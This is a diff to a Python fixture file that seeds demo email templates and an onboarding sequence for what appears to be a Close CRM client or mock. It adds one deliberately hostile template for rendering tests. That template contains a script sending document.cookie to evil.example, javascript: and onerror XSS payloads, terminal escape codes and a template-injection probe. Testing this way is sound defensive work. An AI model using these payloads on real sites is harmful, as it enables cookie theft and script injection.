@@ -333,6 +333,94 @@ EMAIL_TEMPLATES[SEED_TEMPLATE_ID].update(
     name="Intro: quick question", subject="Quick question about {{lead.name}}"
 )
 
+# -- what the templates say: HTML bodies as Close's editor writes them -----------------------
+# Paragraphs, links, a list and variables; one long (LONG_TEMPLATE), one hostile
+# (HOSTILE_TEMPLATE): scripts, `javascript:` links, entities, escape codes, nested tables.
+LONG_TEMPLATE = 1
+SEED_BODY = (
+    "<p>Hi {{ contact.first_name }},</p>"
+    "<p>I noticed <b>{{ lead.display_name }}</b> has been growing its sales team, and I "
+    "wanted to ask a <i>quick</i> question: how do your reps keep track of follow-ups today?"
+    "</p><p>Teams like yours use Close to:</p>"
+    "<ul><li>call, email and text from one place</li>"
+    "<li>never miss a follow-up, with <b>Workflows</b></li>"
+    "<li>see every conversation with a lead on one page</li></ul>"
+    '<p>Here is a <a href="https://close.com/customers/">two-minute case study</a> from a '
+    "team of your size.<br>Worth a look?</p>"
+    "<p>Best,<br>{{ user.first_name }}<br>"
+    '<a href="mailto:{{ user.email }}">{{ user.email }}</a></p>'
+)
+_BODY_OPENINGS = [
+    "Following up on my last note",
+    "I wanted to share something that may help {{ lead.display_name }}",
+    "A quick one before the week ends",
+    "Thanks again for your time on the call",
+]
+_BODY_ASKS = [
+    "Would 15 minutes next week work?",
+    "Is this something your team is looking at this quarter?",
+    "Who would be the best person to talk to about this?",
+    "Should I close the loop on my side?",
+]
+
+
+def _demo_body(i: int, purpose: str) -> str:
+    rng = random.Random(f"body{i}")
+    points = rng.sample(
+        [
+            "set-up takes an afternoon",
+            "your data comes over from your current CRM",
+            "every call is recorded and transcribed",
+            "reps see their day in one list",
+            "pricing is per seat, monthly",
+        ],
+        3,
+    )
+    items = "".join(f"<li>{point}</li>" for point in points)
+    return (
+        f"<p>Hi {{{{ contact.first_name }}}},</p><p>{rng.choice(_BODY_OPENINGS)}: "
+        f"<b>{purpose.lower()}</b>.</p><ul>{items}</ul>"
+        f'<p>{rng.choice(_BODY_ASKS)} <a href="https://demo.example/book/{i}">Pick a time</a>'
+        "</p><p>Cheers,<br>{{ user.first_name }}</p>"
+    )
+
+
+def _long_body() -> str:
+    parts = ["<h1>The Demo quarterly</h1><p>Hi {{ contact.first_name }},</p>"]
+    for n in range(1, 61):
+        parts.append(
+            f"<h2>Part {n}</h2><p>This is paragraph {n} of a long newsletter: what changed "
+            f"this quarter, what we learned from <i>customers</i> like "
+            f"{{{{ lead.display_name }}}}, and what comes next.</p>"
+        )
+    parts.append('<p><a href="https://demo.example/unsubscribe">Unsubscribe</a></p>')
+    return "".join(parts)
+
+
+HOSTILE_BODY = (
+    "<html><head><title>not shown</title><style>p { color: red }</style>"
+    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
+    "<body><p>Hello &lt;b&gt;{{ contact.first_name }}&lt;/b&gt; &amp; team &#x1F600; &copy;</p>"
+    '<p><a href="javascript:alert(document.domain)">Click to claim</a> or '
+    '<a href="JaVaScRiPt:void(0)">this</a> or <a href="data:text/html,<script>1</script>">'
+    "that</a>, or [@click=app.quit]quit[/] and [bold]markup[/bold].</p>"
+    "<p>\x1b[31mred ANSI\x1b[0m, \x1b]8;;https://evil.example/\x1b\\an OSC link"
+    "\x1b]8;;\x1b\\, \u202eesrever\u202c, zero\u200bwidth, a bell\x07.</p>"
+    + "<table><tr><td>" * 60
+    + "deep in sixty nested tables"
+    + "</td></tr></table>" * 60
+    + "<p>{{ lead.custom.evil | attr('__class__') }} stays as typed.</p>"
+    "<img src=x onerror=alert(1) alt='an image'>"
+    "</body></html>"
+)
+for _i, (_tid, _template) in enumerate(EMAIL_TEMPLATES.items()):
+    _template["body"] = _demo_body(_i, _template["name"].split(" #")[0])
+EMAIL_TEMPLATES[SEED_TEMPLATE_ID]["body"] = SEED_BODY
+EMAIL_TEMPLATES[_email_template_id(LONG_TEMPLATE)].update(
+    name="Quarterly newsletter (long)", body=_long_body()
+)
+EMAIL_TEMPLATES[_email_template_id(HOSTILE_TEMPLATE)]["body"] = HOSTILE_BODY
+
 SMS_TEMPLATES: dict[str, dict[str, Any]] = {}
 for _i in range(12):
     _sid = _sms_template_id(_i)
@@ -462,6 +550,42 @@ def _made_hostile(item: dict[str, Any]) -> dict[str, Any]:
     }
 
 
+TOUR_INDEX = 3  # eight steps, one of every kind: the sequence the first run shows off
+TOUR_NAME = "Onboarding tour — every kind of step"
+_TOUR_STEPS = [  # (type, delay, email template, sms template, threading, required, allowed)
+    ("email", 0, 0, None, "new_thread", True, None),
+    ("call", 86400, None, None, None, False, None),
+    ("sms", 7200, None, 3, None, True, None),
+    ("task", 86400, None, None, None, True, None),
+    ("email", 86400, LONG_TEMPLATE, None, "old_thread", True, None),
+    ("update_lead", 2 * 86400, None, None, None, True, None),
+    ("create_opportunity", 2 * 86400, None, None, None, False, None),
+    ("email", 2 * 86400, 5, None, "old_thread", True, 4 * 3600),
+]
+
+
+def _made_tour(item: dict[str, Any]) -> dict[str, Any]:
+    steps = []
+    for n, (kind, delay, email, sms, thread, required, allowed) in enumerate(_TOUR_STEPS):
+        steps.append(
+            {
+                "id": "seqstep_" + _token(f"tour/{n}", 22),
+                "step_type": kind,
+                "delay": delay,
+                "email_template_id": None if email is None else _email_template_id(email),
+                "sms_template_id": None if sms is None else _sms_template_id(sms),
+                "threading": thread,
+                "required": required,
+                "step_allowed_delay": allowed,
+                "created_by_id": item["created_by_id"],
+                "updated_by_id": item["updated_by_id"],
+                "date_created": item["date_created"],
+                "date_updated": item["date_updated"],
+            }
+        )
+    return {**item, "name": TOUR_NAME, "status": "active", "steps": steps}
+
+
 @lru_cache(maxsize=4096)
 def _generated(key: str, index: int) -> dict[str, Any]:
     rng = random.Random(key)
@@ -483,6 +607,8 @@ def _generated(key: str, index: int) -> dict[str, Any]:
         "allow_manual_enrollment": rng.random() < 0.5,
         "owner_id": author,
     }
+    if index == TOUR_INDEX:
+        return _made_tour(item)
     return _made_hostile(item) if index == HOSTILE_INDEX else item
 
 
